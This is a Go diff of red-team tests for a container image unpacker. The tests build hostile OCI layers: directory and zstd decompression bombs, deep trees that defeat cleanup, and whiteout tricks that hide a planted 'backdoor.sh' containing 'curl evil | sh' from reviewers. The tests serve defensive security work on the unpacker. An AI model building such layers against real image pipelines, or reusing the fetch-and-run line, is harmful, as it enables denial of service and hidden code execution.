@@ -2,7 +2,7 @@ package image
 
 // Red-team tests for environment/image (branch redteam-image). Tests named
 // TestRedteamHolds* are attacks that the unpacker resists; tests named
-// TestRedteamFinding* fail while the weakness they show is present.
+// TestRedteam* fail while the weakness they show is present.
 
 import (
 	"archive/tar"
@@ -219,11 +219,11 @@ func TestRedteamHoldsModes(t *testing.T) {
 	}
 }
 
-// TestRedteamFindingOpaqueRemovesOwnLayer: an opaque whiteout removes what
+// TestRedteamOpaqueRemovesOwnLayer: an opaque whiteout removes what
 // its own layer wrote when the layer has no entry for a parent directory
 // (it makes it implicitly). containerd, Docker and the OCI image spec keep
 // it: the cordon rootfs then differs from the image that was reviewed.
-func TestRedteamFindingOpaqueRemovesOwnLayer(t *testing.T) {
+func TestRedteamOpaqueRemovesOwnLayer(t *testing.T) {
 	lower := layerOf(t, dir("d/"), file("d/old", "old"))
 	upper := layerOf(t, file("d/.wh..wh..opq", ""), file("d/sub/new", "new")) // no "d/sub/" entry: tar writers may omit it
 	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
@@ -239,10 +239,10 @@ func TestRedteamFindingOpaqueRemovesOwnLayer(t *testing.T) {
 	}
 }
 
-// TestRedteamFindingWhiteoutSameLayer: a whiteout removes a file of its
+// TestRedteamWhiteoutSameLayer: a whiteout removes a file of its
 // own layer when it comes after it; the OCI image spec says whiteouts
 // apply only to lower layers (containerd keeps the file).
-func TestRedteamFindingWhiteoutSameLayer(t *testing.T) {
+func TestRedteamWhiteoutSameLayer(t *testing.T) {
 	upper := layerOf(t, file("x", "same layer"), file(".wh.x", ""))
 	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
 	r, err := unpack(t, writeLayout(t, imageOf(t, layerOf(t, file("keep", "k")), upper)), cache)
@@ -254,11 +254,11 @@ func TestRedteamFindingWhiteoutSameLayer(t *testing.T) {
 	}
 }
 
-// TestRedteamFindingDirectoryBomb: one tar entry with a long name makes
+// TestRedteamDirectoryBomb: one tar entry with a long name makes
 // thousands of directories; the entry bound counts one. With the default
 // limits, a layer of a few hundred KiB makes hundreds of millions of
 // directories (inodes and 4 KiB blocks each), past the 16 GiB bound.
-func TestRedteamFindingDirectoryBomb(t *testing.T) {
+func TestRedteamDirectoryBomb(t *testing.T) {
 	const depth = 5000 // 10 KB name; PAX allows names up to 1 MiB
 	name := strings.Repeat("d/", depth) + "f"
 	b := rawTar(t, tar.FormatPAX, &tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: 0})
@@ -274,11 +274,11 @@ func TestRedteamFindingDirectoryBomb(t *testing.T) {
 	t.Errorf("1 tar entry (MaxEntries 10) made %d directories", countDepth(t, r.Dir))
 }
 
-// TestRedteamFindingDeepTreeDefeatsCleanup: a refused image whose layer
+// TestRedteamDeepTreeDefeatsCleanup: a refused image whose layer
 // first makes a directory chain deeper than the open-file limit leaves its
 // temporary directory in the cache: os.RemoveAll keeps one descriptor per
 // level and fails with EMFILE, and Unpack ignores that error.
-func TestRedteamFindingDeepTreeDefeatsCleanup(t *testing.T) {
+func TestRedteamDeepTreeDefeatsCleanup(t *testing.T) {
 	var lim syscall.Rlimit
 	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim); err != nil {
 		t.Fatal(err)
@@ -410,13 +410,13 @@ func zstdBomb(t testing.TB, n int64) []byte {
 	return buf.Bytes()
 }
 
-// TestRedteamFindingTrailingBombIgnoresCancel: bytes after a layer's
+// TestRedteamTrailingBombIgnoresCancel: bytes after a layer's
 // end-of-archive marker are read (and hashed) without bound and without
 // looking at the context: a 1 MiB gzip layer (or a 32 KiB zstd one) makes
 // Unpack read 1 GiB, and a cancelled context (Ctrl-C or SIGTERM in
 // 'cordon image unpack') does not stop it. The byte limit (here 1 KiB)
 // does not count them either. A 32 MiB zstd layer is a TiB of reading.
-func TestRedteamFindingTrailingBombIgnoresCancel(t *testing.T) {
+func TestRedteamTrailingBombIgnoresCancel(t *testing.T) {
 	const n = 1 << 30
 	for _, c := range []struct {
 		name, mt string
@@ -447,51 +447,14 @@ func TestRedteamFindingTrailingBombIgnoresCancel(t *testing.T) {
 	}
 }
 
-// TestRedteamWriteLayouts writes the layouts the command-line reproducers
-// (environment/image/testdata/redteam.sh) use, into $RT_OUT.
-func TestRedteamWriteLayouts(t *testing.T) {
-	out := os.Getenv("RT_OUT")
-	if out == "" {
-		t.Skip("RT_OUT not set")
-	}
-	save := func(name, src string) {
-		if err := exec.Command("cp", "-a", src, filepath.Join(out, name)).Run(); err != nil {
-			t.Fatal(err)
-		}
-	}
-	// A small, ordinary image.
-	save("small", writeLayout(t, imageOf(t, layerOf(t, dir("usr/"), dir("usr/bin/"), file("usr/bin/hello", "hi\n")))))
-	// An image with world-writable directories and files (and /tmp 1777).
-	save("wide", writeLayout(t, imageOf(t, layerOf(t,
-		ent{name: "usr/", typ: tar.TypeDir, mode: 0o777},
-		ent{name: "usr/bin/", typ: tar.TypeDir, mode: 0o777},
-		ent{name: "usr/bin/tool", body: "#!/bin/sh\necho original\n", typ: tar.TypeReg, mode: 0o777},
-		ent{name: "tmp/", typ: tar.TypeDir, mode: 0o1777}))))
-	// A valid image (its diff id is right) that takes a few seconds: 2 GiB
-	// of zeros after the archive's end, 64 KiB of zstd.
-	const n = 2 << 30
-	blob := zstdBomb(t, n)
-	h := sha256.New()
-	h.Write(tarOf(t, file("hello", "hi")))
-	chunk := make([]byte, 1<<20)
-	for i := 0; i < n>>20; i++ {
-		h.Write(chunk)
-	}
-	save("slow", rawLayout(t, "application/vnd.oci.image.layer.v1.tar+zstd", []string{"sha256:" + hex.EncodeToString(h.Sum(nil))}, blob))
-	// A refused image whose layer first makes a chain of 25,000 directories.
-	save("deep", writeLayout(t, imageOf(t, layerFromBytes(t, rawTar(t, tar.FormatPAX,
-		&tar.Header{Name: strings.Repeat("d/", 25000) + "f", Typeflag: tar.TypeReg, Mode: 0o644},
-		&tar.Header{Name: "fifo", Typeflag: tar.TypeFifo, Mode: 0o644})))))
-}
-
-// TestRedteamFindingOpaqueKeepsLowerGrandchildren: an opaque whiteout must
+// TestRedteamOpaqueKeepsLowerGrandchildren: an opaque whiteout must
 // hide everything the lower layers put below its directory. When the
 // upper layer re-creates a subdirectory (an explicit entry, as docker
 // build writes them), cordon keeps the lower layers' files inside that
 // subdirectory: a file Docker, containerd and the OCI image spec show as
 // gone (say etc/profile.d/backdoor.sh, under an opaque etc/) is in cordon's
 // rootfs. What a reviewer inspects with docker is not what cordon runs.
-func TestRedteamFindingOpaqueKeepsLowerGrandchildren(t *testing.T) {
+func TestRedteamOpaqueKeepsLowerGrandchildren(t *testing.T) {
 	lower := layerOf(t, dir("etc/"), dir("etc/profile.d/"), file("etc/profile.d/backdoor.sh", "curl evil | sh"), file("etc/hostname", "x"))
 	upper := layerOf(t, dir("etc/"), file("etc/.wh..wh..opq", ""), dir("etc/profile.d/"), file("etc/profile.d/lang.sh", "export LANG=C"))
 	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
@@ -507,12 +470,12 @@ func TestRedteamFindingOpaqueKeepsLowerGrandchildren(t *testing.T) {
 	}
 }
 
-// TestRedteamFindingDockerSaveCompressesEveryLayer: Open on a docker save
+// TestRedteamDockerSaveCompressesEveryLayer: Open on a docker save
 // tarball with uncompressed layers (what docker save writes) gzips every
 // layer to build a manifest, only to read the config digest: as much CPU
 // again as the unpack, before any check. Informational (performance, and
 // unbounded work on an untrusted tarball before it is verified).
-func TestRedteamFindingDockerSaveCompressesEveryLayer(t *testing.T) {
+func TestRedteamDockerSaveCompressesEveryLayer(t *testing.T) {
 	rnd := make([]byte, 48<<20)
 	f, _ := os.Open("/dev/urandom")
 	io.ReadFull(f, rnd)
